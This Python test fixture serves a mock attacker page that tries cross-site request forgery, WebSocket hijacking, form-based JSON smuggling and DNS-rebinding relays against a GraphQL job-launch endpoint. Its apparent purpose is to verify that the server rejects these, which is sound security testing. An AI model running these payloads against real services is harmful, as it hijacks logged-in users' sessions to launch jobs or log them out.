"""An attacker's page that a logged-in engineer opens: it tries all that a page can try on another one."""

import json
import socket
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from urllib.parse import urlsplit

LAUNCH = """
mutation Launch($config: RunConfigData) {
  launchRun(executionParams: {
    selector: {repositoryLocationName: "sluice", repositoryName: "__repository__", jobName: "refresh"}
    runConfigData: $config
  }) { __typename ... on RunConfigValidationInvalid { errors { message } } ... on PythonError { message } }
}
"""

# Each attempt settles, whatever comes of it; the last statement tells the test that all have.
SCRIPT = """
const target = TARGET, launch = LAUNCH, query = '/graphql?query=' + encodeURIComponent(launch)
const json = JSON.stringify({query: launch})
const attempts = [
  () => fetch(target + '/graphql', {method: 'POST', mode: 'no-cors', credentials: 'include', body: json}),
  () => fetch(target + query, {method: 'POST', mode: 'no-cors', credentials: 'include'}),
  () => fetch(target + query, {mode: 'no-cors', credentials: 'include'}),
  () => fetch(target + '/graphql', {method: 'POST', credentials: 'include', body: json,
    headers: {'Content-Type': 'application/json'}}),
  () => fetch(target + '/graphql', {method: 'POST', credentials: 'include', body: launch,
    headers: {'Content-Type': 'application/graphql'}}),
  () => fetch(target + '/report_asset_materialization/marts/dim_posts', {method: 'POST', mode: 'no-cors',
    credentials: 'include'}),
  () => fetch(target + '/logout', {method: 'POST', mode: 'no-cors', credentials: 'include'}),
  () => new Promise(done => Object.assign(new Image(), {onload: done, onerror: done}).src = target + query),
  () => new Promise(done => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/graphql', 'graphql-ws')
    socket.onopen = () => { window.opened = true; done() }
    socket.onerror = done
  }),
  ...[query, '/logout', '/login'].map(path => () => new Promise(done => {
    const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random()})
    document.body.append(frame)
    frame.onload = done  // from here on: the empty document has loaded while it was appended
    const form = Object.assign(document.createElement('form'), {method: 'post', enctype: 'text/plain',
      action: target + path, target: frame.name})
    form.append(Object.assign(document.createElement('input'), {name: json.slice(0, -1) + ', "x', value: '": 1}'}))
    document.body.append(form)
    form.submit()
  })),
  () => new Promise(done => document.body.append(
    Object.assign(document.createElement('iframe'), {src: target + '/', onload: done, onerror: done}))),
]
window.addEventListener('load', async () => {
  for (const attempt of attempts) await attempt().catch(() => null)
  document.title = 'done'
})
"""


@contextmanager
def attacker(target: str, *, is_rebound: bool = False) -> Iterator[int]:
    """The port of 127.0.0.1 on which the attacker serves the page `/attack`, which attacks `target`.

    `is_rebound`: the page attacks its own origin, and all other requests to it reach `target`, as they do when the
    attacker has pointed the name of the page to another address after the page was loaded.
    """
    url = urlsplit(target)
    address = (url.hostname or "", url.port or 0)
    goal = "location.origin" if is_rebound else json.dumps(target)
    script = SCRIPT.replace("TARGET", goal).replace("LAUNCH", json.dumps(LAUNCH))
    page = f"<!doctype html><title>trying</title><body><script>{script}</script>".encode()

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            began = self.request.recv(65536)
            if began.startswith(b"GET /attack "):
                self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + page)
            elif is_rebound and began:
                with socket.create_connection(address) as onward:
                    onward.sendall(began)
                    back = threading.Thread(target=_pass_on, args=(onward, self.request))
                    back.start()
                    _pass_on(self.request, onward)
                    back.join()

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            thread.join()


def _pass_on(source: socket.socket, goal: socket.socket) -> None:
    """Copy bytes until either side closes."""
    with suppress(OSError):
        while received := source.recv(65536):
            goal.sendall(received)
    for each in (source, goal):
        with suppress(OSError):
            each.shutdown(socket.SHUT_RDWR)
